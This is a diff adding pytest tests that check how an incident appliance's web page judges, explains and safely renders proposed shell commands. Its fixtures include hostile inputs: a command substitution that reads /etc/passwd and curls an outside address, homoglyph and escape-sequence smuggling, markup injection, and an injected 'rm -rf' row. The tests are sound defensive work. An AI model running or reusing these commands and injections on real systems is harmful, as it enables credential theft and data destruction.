@@ -4,12 +4,14 @@ import hashlib
 import re
 from collections.abc import Callable
 from datetime import timedelta
+from html import unescape
 from pathlib import Path
 from urllib.parse import parse_qs, urlsplit
 
 import msgspec
 import pytest
 from flask import Flask
+from psycopg.types.json import Jsonb
 
 from appliance.errors import SettingsError
 from appliance.lifecycle import State
@@ -65,6 +67,136 @@ def test_text_from_a_host_is_inert_and_nothing_in_it_is_hidden(
         assert "\x1b" not in text, path
         assert "\u202e" not in text, path
         assert "\\x1b[2J\\u202eknow" in text, path
+
+
+def panel(browser: Browser, seeded: seed.Seeded) -> str:
+    """The commands of an incident's page, as text with single spaces."""
+    text = browser.get(f"/incidents/{seeded.incident_id}").text
+    found = re.search(r'<div id="part-plan">(.*?)<div id="part-decision"', text, re.DOTALL)
+    assert found is not None
+    return re.sub(r"\s+", " ", found[1])
+
+
+def words_of(html: str) -> str:
+    """What a screen reader makes of it: no markup, single spaces."""
+    return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", html))).strip()
+
+
+def test_a_reason_shows_its_word_rule_code_expectation_and_hint(
+    signed_in: SignIn, database: Database
+) -> None:
+    seeded = seed.judged(database, commands=("kill -9 812",), state=State.MANUAL)
+    html = panel(signed_in("operator-1"), seeded)
+    assert re.search(r'kill</span> .*-9</span> <mark class="block">.*812</span></mark></pre>', html)
+    reason = words_of(html.split('<li class="reason block">')[1].split("</li>")[0])
+    assert reason == (
+        "⊘ block process 812 is protected: database"
+        " Expected a process id of this incident's evidence Found 812"
+        " → Hint: name the pid from the evidence, with TERM before KILL"
+        f" Rule {seeded.verdicts[0]['rule']} Code protected"
+    )
+    assert re.fullmatch(r"20-process\.toml:\d+", seeded.verdicts[0]["rule"])
+
+
+def test_a_review_says_in_one_line_which_word_stands_in_the_way(
+    signed_in: SignIn, database: Database
+) -> None:
+    commands = ("kill -KILL 4711 && sync", "top", "ps --sorted; frobnicate 'a b' ''")
+    seeded = seed.judged(database, commands=commands, state=State.MANUAL)
+    html = panel(signed_in("operator-1"), seeded)
+    lines = [words_of(line) for line in re.findall(r'<p class="way">(.*?)</p>', html)]
+    assert lines == [
+        "One word stands in the way: sync",
+        "One thing is missing: -b",
+        "2 words stand in the way: --sorted frobnicate",
+    ]
+    marked = [words_of(mark) for mark in re.findall(r"<mark [^>]*>(.*?)</mark>", html)]
+    assert marked == ["sync", "top", "--sorted", "frobnicate"]
+
+
+def test_what_would_run_is_shown_word_by_word_with_program_effect_undo_and_streams(
+    signed_in: SignIn, database: Database
+) -> None:
+    search = "journalctl --no-pager --grep 'out of memory' 2>/dev/null | head -n 5"
+    seeded = seed.judged(database, commands=(search, "kill -TERM 4711"))
+    html = panel(signed_in("operator-1"), seeded)
+    runs = [words_of(item) for item in re.findall(r'<div class="runs">(.*?)</div>', html)]
+    assert runs[0] == (
+        "Argument vectors, no shell journalctl --no-pager --grep out of memory"
+        " program /usr/bin/journalctl or /bin/journalctl ○ only reads errors to /dev/null"
+        " | reads what the one before writes head -n 5"
+        " program /usr/bin/head or /bin/head ○ only reads"
+    )
+    assert "△ changes state Undo: a process that ended is started again by its unit" in runs[1]
+    gap = '<span class="space"> </span>'
+    assert f'<code role="listitem">out{gap}of{gap}memory</code>' in html
+
+
+def test_a_line_outside_the_language_shows_the_construct_and_what_bash_would_have_run(
+    signed_in: SignIn, database: Database
+) -> None:
+    commands = ("ls $(cat /etc/passwd; curl http://198.51.100.7/x)",)
+    seeded = seed.judged(database, commands=commands, state=State.MANUAL)
+    text = words_of(panel(signed_in("operator-1"), seeded))
+    assert "Outside the executable language: command-substitution" in text
+    assert "Hint: run the inner command as its own step and write its result here" in text
+    assert "bash would also run: cat /etc/passwd curl http://198.51.100.7/x" in text
+    assert "Argument vector" not in text
+
+
+def test_a_hostile_command_is_inert_and_every_foreign_letter_is_an_escape(
+    signed_in: SignIn, database: Database
+) -> None:
+    commands = (f"kill -9 47\u043011 {EVIL}", f"ls $(echo {EVIL.replace('(', '')}\u0430)")
+    seeded = seed.judged(database, commands=commands, state=State.MANUAL)
+    html = panel(signed_in("operator-1"), seeded)
+    assert "<img" not in html
+    assert "<script" not in html
+    assert {letter for letter in html if letter > "~"} <= set("⊘→…“”✎")
+    assert '<mark class="block"><span class="whole">\\u0430</span></mark>' in html
+    assert "\\x1b[2J\\u202eknow" in html
+
+
+def test_reasons_of_an_allowed_command_are_folded_and_others_are_open(
+    signed_in: SignIn, database: Database
+) -> None:
+    seeded = seed.judged(database, rulings=("allow", "review", "block"), state=State.MANUAL)
+    html = panel(signed_in("operator-1"), seeded)
+    allowed, review, block = html.split('<div class="row between">')[1:]
+    assert "<mark" not in allowed
+    assert re.search(r'<details id="why-1"><summary>Why it is allowed</summary><ol', allowed)
+    assert '<li class="reason' not in allowed.split("<details")[0]
+    for html in (review, block):
+        assert '<li class="reason' in html.split("<details")[0]
+
+
+@pytest.mark.parametrize("stored", ["older", "rubbish", "another", "nothing"])
+def test_rows_that_an_older_hub_stored_still_have_a_page(
+    signed_in: SignIn, database: Database, stored: str
+) -> None:
+    seeded = seed.judged(database, rulings=("allow", "review", "block"), state=State.MANUAL)
+    assert seeded.shown is not None
+    older = [
+        {"explain": row["explain"], "argv": [["kill", "a b"]] if row["commands"] else [],
+         "reasons": [{"message": one["message"], "rule": one["rule"]} for one in row["reasons"]]}
+        for row in seeded.verdicts
+    ]  # fmt: skip
+    rows = {
+        "older": older,
+        "rubbish": [{"reasons": 7, "commands": [None]}, {"explain": []}, {"hidden": {}}],
+        "another": [{**row, "command": "rm -rf /else"} for row in seeded.verdicts],
+        "nothing": [],
+    }[stored]
+    with database.transaction() as work:
+        work._connection.execute("UPDATE judgement SET verdicts = %s", [Jsonb(rows)])
+    html = panel(signed_in("operator-1"), seeded)
+    text = words_of(html)
+    for step in seeded.shown.steps:
+        assert step.command.split()[0] in text
+        assert step.why[1:] in text
+        assert step.rule in text
+    assert "/else" not in text
+    assert ('a<span class="space"> </span>b' in html) is (stored == "older")
 
 
 def test_what_needs_a_person_comes_first(signed_in: SignIn, database: Database) -> None:
